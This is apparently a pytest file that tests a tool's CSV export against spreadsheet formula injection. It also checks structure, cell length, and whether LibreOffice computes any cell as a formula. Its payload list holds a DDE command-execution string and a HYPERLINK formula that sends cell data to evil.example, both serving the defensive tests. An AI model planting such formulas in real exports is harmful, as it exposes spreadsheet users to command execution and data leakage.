"""cases.csv: every case, nothing that a spreadsheet calculates, and a file that every reader of CSV reads alike."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from generated import HOSTILE, case, run_of, runs
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from preflight.report.spreadsheet import defused
from preflight.report.table_csv import COLUMNS, cases_csv
from preflight.run.compare import compare
from preflight.run.model import Run
from preflight.values.outcome import Outcome, Verdict

FORMULAS = (
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r\n=1+1",
    " =1+1",
    "'=1+1",
    '"=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "\uff1d1+1",
    "harmless; =1+1",
    'a";=1+1;"',
    "a;\t'=1+1",
)
BEGINS = re.compile("[\\s\"']*[=+\\-@\uff1d\uff0b\uff0d\uff20]")


def read(content: bytes, **dialect: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), **dialect))  # type: ignore[arg-type]


def hostile_run(text: str) -> Run:
    verdict = Verdict(Outcome.FAILED, text, text, text, text, text, text, (text, text), (text,))
    one = case("S04", "cml1", "mfp1", note=text, requirement=text, notation=text)
    return run_of([(one, verdict)], notes=[text], site=text)


@pytest.mark.parametrize("text", [*FORMULAS, *HOSTILE])
def test_no_cell_begins_a_formula(text: str) -> None:
    rows = read(cases_csv(hostile_run(text)))
    assert len(rows) == 2
    assert len(rows[1]) == len(COLUMNS)
    for separator in (",", ";"):
        for row in read(cases_csv(hostile_run(text)), delimiter=separator):
            for cell in row:
                assert not re.match('[\\s"]*[=+\\-@\uff1d\uff0b\uff0d\uff20]', cell), cell


@given(st.text(st.characters(exclude_categories=())) | st.sampled_from(FORMULAS))
@settings(max_examples=300, deadline=None)
def test_defused_text_begins_with_no_operator_anywhere_a_cell_may_begin(text: str) -> None:
    told = defused(text)
    assert told.isprintable()
    for piece in told.split(";"):
        assert not re.match('[\\s"]*[=+\\-@\uff1d\uff0b\uff0d\uff20]', piece)
    if not any(BEGINS.match(piece) for piece in text.split(";")) and text.isprintable() and text.isascii():
        assert told == text


@pytest.mark.slow
@given(runs())
@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow], deadline=None)
def test_every_case_is_a_line(run: Run) -> None:
    content = cases_csv(run)
    assert content == cases_csv(run)
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.count(b"\r\n") == content.count(b"\n") == len(run.cases) + 1
    rows = read(content)
    assert tuple(rows[0]) == COLUMNS
    column = {name: [row[i] for row in rows[1:]] for i, name in enumerate(COLUMNS)}
    assert column["id"] == [one.id for one in run.cases]
    assert column["outcome"] == [one.outcome.value for one in run.cases]
    assert column["ruling"] == [one.ruling or "" for one in run.cases]
    assert all(len(cell) <= 32_767 for row in rows for cell in row)


def test_what_changed_stands_beside_the_case() -> None:
    then = run_of([(case("S04", "cml1", "mfp1"), Verdict(Outcome.PASSED, "open"))])
    now = run_of([(case("S04", "cml1", "mfp1", ports=(80, 443)), Verdict(Outcome.FAILED, "shut"))])
    now = now.model_copy(update={"comparison": compare(then, now)})
    (row,) = csv.DictReader(io.StringIO(cases_csv(now).decode("utf-8-sig"), newline=""))
    assert (row["change"], row["ports"], row["standing"]) == ("regressed", "80, 443", "failed")


def test_ten_megabytes_of_findings_fit_into_a_cell() -> None:
    assert max(len(cell) for cell in read(cases_csv(hostile_run("x" * 10_000_000)))[1]) < 32_767


def calculated(folder: Path, content: bytes, separators: str) -> int:
    """How many cells LibreOffice takes for formulas when it cuts at these separators (character codes)."""
    (folder / "cases.csv").write_bytes(content)
    command = ["soffice", "--headless", f"--infilter=CSV:{separators},34,76", "--convert-to", "fods"]
    environment = {"HOME": str(folder), "PATH": os.environ["PATH"]}
    subprocess.run(
        [*command, "--outdir", str(folder), str(folder / "cases.csv")], env=environment, check=True, timeout=120
    )
    text = (folder / "cases.fods").read_text(encoding="utf-8")
    assert "S04:0" in text
    return text.count("table:formula")


@pytest.mark.real
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed here")
@pytest.mark.parametrize("separators", ["44", "44/59"], ids=["commas", "commas-and-semicolons"])
def test_libreoffice_calculates_nothing(tmp_path: Path, separators: str) -> None:
    rows = [
        (case("S04", "cml1", "mfp1", id=f"S04:{number}"), Verdict(Outcome.FAILED, text))
        for number, text in enumerate(FORMULAS)
    ]
    assert calculated(tmp_path, b'S04:0,"=1+1"\r\n', separators) == 1  # without the apostrophe it would
    assert calculated(tmp_path, cases_csv(run_of(rows)), separators) == 0
